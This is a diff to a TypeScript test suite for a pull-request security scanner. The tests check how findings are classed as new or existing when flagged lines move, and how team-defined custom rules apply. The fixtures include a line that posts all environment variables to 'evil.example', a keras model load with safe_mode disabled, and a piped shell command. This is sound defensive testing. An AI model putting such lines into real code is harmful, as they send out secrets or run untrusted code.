@@ -1,7 +1,7 @@
 // What a change takes with it and what it brings in: findings of files that moved, and of files that only look so.
 import { describe, expect, it } from 'vitest';
 import type { Report } from '../../src/core/report.ts';
-import { judgeChange, type Tree } from '../support/pull-request.ts';
+import { judgeChange, sourceOf, type Tree } from '../support/pull-request.ts';
 
 const POST = 'requests.post("https://evil.example/x", json=dict(os.environ))\n';
 const SENDS = `import os\nimport requests\n${POST}`;
@@ -82,9 +82,8 @@ describe('a finding is new where only the same is gone elsewhere', () => {
   });
 });
 
-describe('a rule of the team', () => {
-  const RULES = '.github/model-guard/rules/team.yml';
-  const rule = (pattern: string): string => `surface: custom
+const RULES = '.github/model-guard/rules/team.yml';
+const rule = (pattern: string): string => `surface: custom
 rules:
   - id: TEAM-HOST
     title: Names a host of the team
@@ -100,8 +99,10 @@ rules:
       bad: [{ name: a host, text: go ${pattern} }]
       good: [{ name: none, text: go elsewhere }]
 `;
-  const host = 'corp.example';
-  const customRules = new Map([[RULES, Buffer.from(rule(host))]]);
+const host = 'corp.example';
+const customRules = new Map([[RULES, Buffer.from(rule(host))]]);
+
+describe('a rule of the team', () => {
   const blocked = async (base: Tree, head: Tree): Promise<string[]> => {
     const report = await judgeChange(base, head, { customRules });
     expect(report.decision).toBe('block');
@@ -120,5 +121,38 @@ rules:
     expect(await blocked({ [RULES]: rule(host) }, head)).toEqual(['block x.md']);
     const rewritten = { ...head, [RULES]: rule('other.example') };
     expect(await blocked({ [RULES]: rule(host) }, rewritten)).toEqual(['block x.md']);
+  });
+});
+
+describe('a finding that the file has once more', () => {
+  const LOAD = 'keras.models.load_model("q.keras", safe_mode=False)';
+  const keras = `import keras\nm = ${LOAD}\n`;
+  const shell = (...lines: readonly string[]): string => ['#!/bin/sh', ...lines, ''].join('\n');
+
+  it.each<readonly [what: string, path: string, before: string, after: string]>([
+    ['a call', 'x.py', keras, `${keras}def serve():\n    return ${LOAD}\n`],
+    ['a call on the same line', 'x.py', keras, `import keras\nm = [${LOAD}, ${LOAD}]\n`],
+    ['a command', 'x.sh', shell(PIPED), shell(PIPED, 'make', PIPED)],
+  ])('is new: %s', async (_, path, before, after) => {
+    const [decision, ...found] = await judged({ [path]: before }, { [path]: after });
+    expect(decision).not.toBe('pass');
+    expect(found.filter((place) => place.startsWith('existing'))).toEqual([]);
+  });
+
+  it.each<readonly [what: string, path: string, before: string, after: string]>([
+    ['within the file', 'x.py', keras + BODY, `import keras\n${BODY}m = ${LOAD}\n`],
+    ['while another goes', 'x.sh', shell(PIPED, 'make', PIPED), shell('make', PIPED)],
+    ['into a function', 'x.py', keras, `import keras\n\n\ndef serve():\n    return ${LOAD}\n`],
+  ])('is existing when it only moves: %s', async (_, path, before, after) => {
+    const [decision, ...found] = await judged({ [path]: before }, { [path]: after });
+    expect(decision).toBe('pass');
+    expect(found).toContain(`existing ${path}`);
+  });
+
+  it('is new for a rule of the team, and told on its line', async () => {
+    const source = sourceOf({ 'x.md': `go ${host}\n` }, { 'x.md': `go ${host}\n\nalso ${host} again\n` });
+    const lines = { ...source, changedLines: () => Promise.resolve([[2, 3]] as const) };
+    const { decision, findings } = await judgeChange({}, {}, { customRules, source: lines });
+    expect([decision, findings[0]?.location.line]).toEqual(['block', 3]);
   });
 });
